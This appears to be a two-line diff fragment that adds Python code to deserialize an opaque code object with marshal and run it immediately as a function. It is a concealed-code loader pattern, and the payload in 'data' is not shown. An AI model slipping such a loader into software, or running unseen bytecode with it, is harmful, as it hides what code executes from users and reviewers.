@@ -1,0 +1,2 @@
+import types, marshal
+types.FunctionType(marshal.loads(data), {})()
